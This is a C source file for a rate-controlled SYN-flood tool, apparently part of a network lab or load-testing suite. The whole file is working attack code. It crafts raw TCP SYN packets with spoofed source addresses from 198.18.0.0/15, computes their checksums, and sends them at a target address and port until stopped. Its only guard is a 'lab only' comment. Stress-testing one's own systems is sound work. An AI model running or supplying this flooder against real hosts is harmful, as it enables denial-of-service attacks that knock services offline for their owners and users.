/*
 * A flood of SYNs from addresses that nobody has (RFC 2544's, 198.18.0.0/15), at a rate, until SIGTERM. Raw sockets:
 * only inside the lab.
 *
 *     synflood [-o RECORDS] -r PER_SECOND ADDRESS PORT
 */
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>

#include "probe.h"

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum_words(const void *data, size_t bytes, uint32_t sum)
{
	const uint8_t *at = data;

	for (size_t i = 0; i < bytes; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t folded(uint32_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void make(struct syn *syn, const struct sockaddr_in *to, uint32_t random)
{
	*syn = (struct syn){
	    .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,	       .tot_len = htons(sizeof(*syn))},
	    .tcp = {.syn = 1,	      .doff = 5,		 .window = htons(64240),	 .dest = to->sin_port},
	};
	syn->ip.saddr = htonl(0xc6120000 | (random & 0x1ffff));
	syn->ip.daddr = to->sin_addr.s_addr;
	syn->tcp.source = htons((uint16_t)(1024 + (random >> 17) % 60000));
	syn->tcp.seq = random;
	uint32_t sum = sum_words(&syn->ip.saddr, 8, IPPROTO_TCP + sizeof(syn->tcp));
	syn->tcp.check = folded(sum_words(&syn->tcp, sizeof(syn->tcp), sum));
}

static long send_some(int fd, const struct sockaddr_in *to, long count, uint32_t *random)
{
	long sent = 0;

	for (long i = 0; i < count; i++) {
		struct syn syn;

		*random = *random * 1664525 + 1013904223;
		make(&syn, to, *random ^ *random >> 13);
		sent += sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)to, sizeof(*to)) == sizeof(syn);
	}
	return sent;
}

int main(int argc, char **argv)
{
	const char *file = NULL;
	double rate = 0;
	int option;

	while ((option = getopt(argc, argv, "o:r:")) != -1) {
		if (option == 'o')
			file = optarg;
		else if (option == 'r')
			rate = positive(optarg);
		else
			argc = 0;
	}
	if (argc - optind != 2 || rate == 0) {
		fputs("usage: synflood [-o RECORDS] -r PER_SECOND ADDRESS PORT\n", stderr);
		return 2;
	}
	struct target target = target_parse(argv[optind], argv[optind + 1]);
	struct sockaddr_in to;
	memcpy(&to, &target.address, sizeof(to));
	FILE *records = records_open(file);
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0) {
		perror("raw socket");
		return 1;
	}
	int signals = end_signal();
	int64_t began = clock_ns(CLOCK_MONOTONIC);
	uint32_t random = (uint32_t)began;
	long sent = 0, tried = 0;
	while (poll(&(struct pollfd){.fd = signals, .events = POLLIN}, 1, 1) == 0) {
		long due = (long)(seconds(clock_ns(CLOCK_MONOTONIC) - began) * rate);

		if (tried == 0 && records != NULL)
			fputs("0 sends\n", records);
		sent += send_some(fd, &to, due - tried, &random);
		tried = due;
	}
	printf("{\"sent\": %ld, \"seconds\": %.3f}\n", sent, seconds(clock_ns(CLOCK_MONOTONIC) - began));
	return 0;
}
